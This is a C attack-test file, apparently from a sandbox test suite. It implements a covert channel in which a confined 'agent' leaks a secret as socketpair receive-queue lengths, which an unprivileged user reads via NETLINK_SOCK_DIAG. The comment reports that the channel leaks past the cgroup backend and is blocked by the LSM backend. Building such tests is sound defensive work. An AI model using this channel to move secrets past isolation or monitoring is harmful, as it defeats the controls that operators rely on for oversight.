// SPDX-License-Identifier: (LGPL-2.1 OR BSD-2-Clause)
/* unix_pair_rqlen - bytes queued in the agent's OWN socketpairs, read through sock_diag, with no
 * gated call at all: after the recv the agent makes one AF_UNIX SOCK_STREAM socketpair per canary
 * byte and writes (byte value) bytes into its first end, never reading them. NETLINK_SOCK_DIAG
 * (unix_diag, UDIAG_SHOW_RQLEN | UDIAG_SHOW_PEER) shows every user the second end's receive queue
 * length (UNIX_DIAG_RQLEN udiag_rqueue: the bytes queued), with its inode and its peer's.
 * Verifier: uid 65534 dumps the established UNIX stream sockets at sync "set", keeps the ends
 * with a non-empty receive queue, orders them by inode and looks for the canary's bytes as
 * consecutive queue lengths.
 * Bandwidth: one queue length per pair, up to the socket buffer (~200 KiB: ~17 bits); the fd
 * limit bounds the pairs held at once (~500), re-read at will, and the agent can drain and refill.
 * No shutdown, no lock, no socket option: the gate sees nothing; a cgroup hook sees no send on a
 * socketpair (docs/kernel.md: sendmsg hooks judge only addressed UNIX datagrams).
 * Result: host (cgroup backend, 6.18): LEAKED user and root. Guest (lsm backend, 6.1): BLOCKED,
 * the write to the socketpair fails with EPERM (socket_sendmsg refuses the tainted agent's send).
 * Control (MNC_ATTACKS_CONTROL=1): verified.
 * Fix idea (cgroup backend): a network namespace per agent (unix_diag is per namespace); no
 * cgroup hook sees a socketpair's stream writes.
 * Status: a known limit of the cgroup backend ([limit:cgroup]; docs/threat-model.md, "Open on
 * the cgroup backend only"); counted, and blocked, on the lsm backend. */
#include <stdint.h>
#include <sys/socket.h>

#include "atk.h"
#include "atk_variants.h"

#define UP_PAIRS 14 /* "mk" + 12 hex: 14 bytes */
#define UP_MAX 4096

static int agent(struct atk_ctx *c)
{
    static int sv[UP_PAIRS][2];
    static char fill[256];
    size_t n = strlen(c->secret);
    if (n > UP_PAIRS)
        n = UP_PAIRS;
    int done = 0, bad = 0;
    for (size_t i = 0; i < n; i++) {
        size_t v = (unsigned char)c->secret[i];
        if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0, sv[i]) != 0) {
            atk_try(c, "socketpair", -1);
            return 0;
        }
        if (write(sv[i][0], fill, v) == (ssize_t)v)
            done++;
        else
            bad = errno;
    }
    atk_say(c, "note wrote %d socketpair queues, last error %d", done, bad);
    atk_sync(c, "set"); /* the pairs stay open until the agent exits */
    return 0;
}

static int rd(struct atk_ctx *c, char *out, size_t n)
{
    static struct atkv_unix_sock all[UP_MAX], u[UP_MAX];
    int n_all = atkv_unix_streams(all, UP_MAX), k = 0;
    for (int i = 0; i < n_all; i++) /* the pairs' ends that carry something, in inode order */
        if (all[i].rq != 0 && all[i].rq < 256 && all[i].peer != 0)
            u[k++] = all[i];
    if (k <= 0)
        return 0;
    size_t cl = strlen(c->canary);
    for (int off = 0; off + (int)cl <= k; off++) {
        char got[32] = {0};
        for (size_t i = 0; i < cl && i < sizeof(got) - 1; i++)
            got[i] = (char)u[off + (int)i].rq;
        if (strcmp(got, c->canary) == 0) {
            snprintf(out, n,
                     "uid 65534 read the canary from the receive queue lengths of %zu socketpairs (NETLINK_SOCK_DIAG "
                     "UNIX_DIAG_RQLEN, ordered by inode; %d queued ends in the dump)",
                     cl, k);
            return 1;
        }
    }
    return 0;
}

static void on_sync(struct atk_ctx *c, const char *tag) { atk_verify_as_nobody(c, tag, "set", rd); }

static const struct atk A = {"unix_pair_rqlen",
                             "bytes queued in the agent's own socketpairs, read through unix sock_diag",
                             ATK_LIMIT_CGROUP | ATK_NETNS,
                             NULL,
                             agent,
                             on_sync,
                             NULL,
                             NULL};
ATK_MAIN(A)
